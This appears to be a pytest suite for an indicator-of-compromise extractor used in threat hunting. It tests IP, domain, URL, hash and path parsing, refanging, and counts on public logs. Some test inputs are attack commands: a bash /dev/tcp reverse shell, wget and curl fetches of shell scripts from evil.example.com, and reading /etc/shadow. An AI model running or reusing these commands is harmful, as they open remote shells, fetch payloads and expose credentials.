"""IoC extraction: validation, refanging, scope marking, and counts on real logs.

Counts on the real files were taken with grep (see each test); hashes in
public test sets were checked by hand.
"""

from __future__ import annotations

import socket
from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis import iocs
from hunting.analysis.iocs import IOCS, extract_from_text, extract_iocs, refang, summarise_iocs


def _values(text: str, kind: str) -> list[str]:
    return [v for t, v in extract_from_text(text) if t == kind]


# --- IPv4 / IPv6 ----------------------------------------------------------------
def test_extract_from_text_ipv4_valid_only() -> None:
    text = "from 183.62.140.253 port 22; v1.2.3.4.5; 999.1.1.1; 10.0.0.300; 01.2.3.4x; end 192.168.1.1."
    assert _values(text, "ipv4") == ["183.62.140.253", "192.168.1.1"]


def test_extract_from_text_ipv4_with_port_and_brackets() -> None:
    assert _values("[1.2.3.4]:22 and 5.6.7.8:443", "ipv4") == ["1.2.3.4", "5.6.7.8"]


def test_extract_from_text_ipv4_inside_hostname_is_not_an_address() -> None:
    text = "rhost=5.36.59.76.dynamic-dsl-ip.omantel.net.om"
    assert extract_from_text(text) == [("dns", "5.36.59.76.dynamic-dsl-ip.omantel.net.om")]


def test_extract_from_text_ipv6_forms() -> None:
    text = "addr=::ffff:1.2.3.4 src=2001:DB8::1 lo ::1 ll fe80::1. time 06:55:46 mac 00:1a:2b:3c:4d:5e std::string a :: b"
    assert _values(text, "ipv6") == ["::ffff:1.2.3.4", "2001:db8::1", "::1", "fe80::1"]
    assert _values(text, "ipv4") == []  # the mapped address is one IoC, not two


def test_extract_iocs_marks_ip_scope_without_dropping() -> None:
    frame = pd.DataFrame({"msg": ["10.0.0.1 127.0.0.1 169.254.1.1 192.0.2.9 224.0.0.1 0.0.0.0 8.8.8.8 ::1"]})
    out = extract_iocs(frame, ["msg"])
    assert dict(zip(out["Value"], out["IpScope"], strict=True)) == {
        "10.0.0.1": "private",
        "127.0.0.1": "loopback",
        "169.254.1.1": "link-local",
        "192.0.2.9": "documentation",
        "224.0.0.1": "multicast",
        "0.0.0.0": "reserved",
        "8.8.8.8": "public",
        "::1": "loopback",
    }


# --- domains ---------------------------------------------------------------------
def test_extract_from_text_file_names_are_not_domains() -> None:
    text = "ran run.sh then config.py loading libc.so.6 into auth.log; sshd.service pam_unix.so README.md"
    assert _values(text, "dns") == []


def test_extract_from_text_domains_lowercased_and_validated() -> None:
    text = "EVIL.Example.COM, mail.example.co.uk; x.evil.sh; host.local; 1.0.0.127.in-addr.arpa; root@corp.example.org"
    assert _values(text, "dns") == ["evil.example.com", "mail.example.co.uk", "x.evil.sh", "corp.example.org"]


def test_extract_from_text_domain_validation_is_offline(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(iocs, "_EXTRACT", iocs.make_extractor())  # loads its suffix list afresh
    iocs.normalise_domain.cache_clear()
    assert _values("visit brand-new-name.example.net", "dns") == ["brand-new-name.example.net"]
    assert iocs._EXTRACT("x.example.co.uk").suffix == "co.uk"


# --- URLs and refanging -----------------------------------------------------------
def test_refang_common_forms() -> None:
    assert refang("hxxps[:]//evil[.]com/a") == "https://evil.com/a"
    assert refang("hXXp://1(.)2(.)3(.)4/x") == "http://1.2.3.4/x"
    assert refang("evil{.}net and bad[dot]org") == "evil.net and bad.org"


def test_extract_from_text_defanged_url_reports_url_and_host() -> None:
    out = extract_from_text("download hxxps[:]//Evil[.]COM/Path?a=B, then hxxp://1[.]2[.]3[.]4/x")
    assert out == [
        ("url", "https://evil.com/Path?a=B"),
        ("dns", "evil.com"),
        ("url", "http://1.2.3.4/x"),
        ("ipv4", "1.2.3.4"),
    ]


def test_extract_from_text_url_trailing_punctuation_and_ftp() -> None:
    out = _values("see (http://example.com/a/b). also ftp://files.example.net/pub/x.tgz;", "url")
    assert out == ["http://example.com/a/b", "ftp://files.example.net/pub/x.tgz"]


def test_extract_from_text_url_path_is_not_a_separate_path() -> None:
    assert _values("wget http://evil.example.com/tmp/x.sh -O /tmp/x.sh", "path") == ["/tmp/x.sh"]


# --- hashes ----------------------------------------------------------------------
MD5_EMPTY = "d41d8cd98f00b204e9800998ecf8427e"
SHA1_EMPTY = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256_EMPTY = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def test_extract_from_text_hashes_by_exact_length() -> None:
    text = f"md5 {MD5_EMPTY.upper()} sha1 {SHA1_EMPTY} sha256 {SHA256_EMPTY} 33hex {MD5_EMPTY}a"
    assert [(t, v) for t, v in extract_from_text(text)] == [
        ("md5", MD5_EMPTY),
        ("sha1", SHA1_EMPTY),
        ("sha256", SHA256_EMPTY),
    ]


def test_extract_from_text_sha256_is_not_also_an_md5() -> None:
    assert extract_from_text(f"hash={SHA256_EMPTY}") == [("sha256", SHA256_EMPTY)]


def test_extract_from_text_hex_encoded_text_is_not_a_hash() -> None:
    # "/usr/bin/python3\0i" and "ls la ls aaaaaaaaa" hex-encoded: auditd writes arguments like this.
    text = "x 2F7573722F62696E2F707974686F6E330069 y 6C73206C61206C732061616161616161616161"
    assert extract_from_text(text) == []


def test_extract_from_text_ids_and_sockaddrs_are_not_hashes() -> None:
    text = "_BOOT_ID=8f1b0c1d2e3f405162738495a6b7c8d9 saddr=02002BCB7F0000010000000000000000"
    assert extract_from_text(text) == []


# --- paths -----------------------------------------------------------------------
def test_extract_from_text_paths() -> None:
    text = 'COMMAND=/bin/bash -c "cat /etc/shadow" PWD=/home/user TTY=pts/0 and/or /s /tmp, 12/10/2019'
    assert _values(text, "path") == ["/bin/bash", "/etc/shadow", "/home/user", "/tmp"]


def test_extract_from_text_ip_in_path_is_reported_with_the_path() -> None:
    text = "bash -i >& /dev/tcp/45.95.147.236/4444 0>&1"
    assert extract_from_text(text) == [("path", "/dev/tcp/45.95.147.236/4444"), ("ipv4", "45.95.147.236")]


def test_extract_from_text_five_part_path_component_is_not_an_ip() -> None:
    assert extract_from_text("/tmp/1.2.3.4.5/x") == [("path", "/tmp/1.2.3.4.5/x")]


def test_extract_from_text_ip_in_url_path() -> None:
    text = "curl http://evil.example.com/r/203.0.113.7/x.sh?via=9.9.9.9"
    assert extract_from_text(text) == [
        ("url", "http://evil.example.com/r/203.0.113.7/x.sh?via=9.9.9.9"),
        ("dns", "evil.example.com"),
        ("ipv4", "203.0.113.7"),  # the query is not a path: 9.9.9.9 is not taken
    ]


def test_extract_iocs_ip_in_path_keeps_row_column_and_scope() -> None:
    frame = pd.DataFrame({"cmd": ["x", "sh -c 'exec 3<>/dev/tcp/10.1.2.3/80'"]}, index=[7, 8])
    out = extract_iocs(frame, ["cmd"])
    assert out[["IocType", "Value", "IpScope", "Row", "Column"]].astype(object).values.tolist() == [
        ["path", "/dev/tcp/10.1.2.3/80", pd.NA, 8, "cmd"],
        ["ipv4", "10.1.2.3", "private", 8, "cmd"],
    ]


# --- frames ----------------------------------------------------------------------
def test_extract_iocs_rows_columns_and_order() -> None:
    frame = pd.DataFrame(
        {"a": ["x 8.8.8.8 y 8.8.8.8", None, "evil.example.com"], "b": ["/tmp/a", "1.1.1.1", pd.NA]},
        index=[10, 11, 12],
    )
    out = extract_iocs(frame, ["a", "b"])
    assert list(out.columns) == IOCS.names
    assert out[["IocType", "Value", "Row", "Column"]].values.tolist() == [
        ["ipv4", "8.8.8.8", 10, "a"],
        ["ipv4", "8.8.8.8", 10, "a"],
        ["path", "/tmp/a", 10, "b"],
        ["ipv4", "1.1.1.1", 11, "b"],
        ["dns", "evil.example.com", 12, "a"],
    ]


def test_extract_iocs_unknown_column_raises() -> None:
    with pytest.raises(KeyError, match="nope"):
        extract_iocs(pd.DataFrame({"a": ["x"]}), ["nope"])


def test_extract_iocs_empty_frame_has_schema() -> None:
    out = extract_iocs(pd.DataFrame({"a": pd.Series([], dtype="string")}), ["a"])
    assert out.empty and list(out.columns) == IOCS.names


def test_summarise_iocs_counts() -> None:
    frame = pd.DataFrame({"a": ["8.8.8.8 8.8.8.8", "8.8.8.8 10.0.0.1", "evil.example.com"]})
    out = summarise_iocs(extract_iocs(frame, ["a"]))
    first = out.iloc[0]
    assert (first["Value"], first["Count"], first["Rows"], first["FirstRow"]) == ("8.8.8.8", 3, 2, 0)
    assert bool(first["IsPublic"]) is True
    private = out[out["Value"] == "10.0.0.1"].iloc[0]
    assert (private["IpScope"], bool(private["IsPublic"])) == ("private", False)
    assert pd.isna(out[out["Value"] == "evil.example.com"].iloc[0]["IsPublic"])


def test_summarise_iocs_empty() -> None:
    assert summarise_iocs(extract_iocs(pd.DataFrame({"a": ["nothing here"]}), ["a"])).empty


# --- real logs -------------------------------------------------------------------
def _lines(path: Path) -> pd.DataFrame:
    return pd.DataFrame({"SyslogMessage": path.read_text(errors="replace").split("\n")})


def test_extract_iocs_openssh_loghub(shared_data: Path) -> None:
    # grep -oP '(?<![\w.])(\d{1,3}\.){3}\d{1,3}(?![\w.])' OpenSSH_2k.log | wc -l -> 1732, sort -u -> 30;
    # 183.62.140.253 867 times; "getaddrinfo for <name>" 85 lines + 7 rhost=<name> lines -> 92 names.
    out = extract_iocs(_lines(shared_data / "loghub" / "OpenSSH_2k.log"), ["SyslogMessage"])
    ips = out[out["IocType"] == "ipv4"]
    assert len(ips) == 1732
    assert ips["Value"].nunique() == 30
    assert (ips["IpScope"] == "public").all()
    summary = summarise_iocs(out)
    assert summary.iloc[0]["Value"] == "183.62.140.253" and summary.iloc[0]["Count"] == 867
    dns = out[out["IocType"] == "dns"]
    assert len(dns) == 92
    assert (dns["Value"] == "customer-187-141-143-180-sta.uninet-ide.com.mx").sum() == 80
    assert set(out["IocType"]) == {"ipv4", "dns"}


def test_extract_iocs_alert_command_line_md5(shared_data: Path) -> None:
    # grep -o 81ed03caf6901e444c72ac67d192fb9c alertlist.csv -> 2 (row 103: ExtendedProperties, Entities)
    alerts = pd.read_csv(shared_data / "sentinel-notebooks" / "alertlist.csv")
    out = extract_iocs(alerts, ["ExtendedProperties", "Entities"])
    md5 = out[(out["IocType"] == "md5") & (out["Value"] == "81ed03caf6901e444c72ac67d192fb9c")]
    assert md5[["Row", "Column"]].values.tolist() == [[103, "ExtendedProperties"], [103, "Entities"]]


def test_extract_iocs_auditd_hex_fields_are_not_hashes(shared_data: Path) -> None:
    connect = shared_data / "laurel" / "testdata" / "record-connect.txt"
    assert "saddr=02002BCB7F0000010000000000000000" in connect.read_text()  # a 32-hex token is there
    normal = shared_data / "go-libaudit" / "testdata" / "normal.log"
    assert "saddr=02000050A9FEA9FE0000000000000000" in normal.read_text()
    for path in (connect, normal):
        out = extract_iocs(_lines(path), ["SyslogMessage"])
        assert not out["IocType"].isin(["md5", "sha1", "sha256"]).any()


def test_extract_iocs_msticpy_audit_events(shared_data: Path) -> None:
    # grep -o '168.63.129.16' linux_events.csv | wc -l -> 17 (the Azure wire server), no hashes
    events = pd.read_csv(shared_data / "msticpy" / "linux_events.csv")
    out = extract_iocs(events, ["AuditdMessage"])
    ips = out[out["IocType"] == "ipv4"]
    assert ips["Value"].tolist() == ["168.63.129.16"] * 17
    assert not out["IocType"].isin(["md5", "sha1", "sha256"]).any()
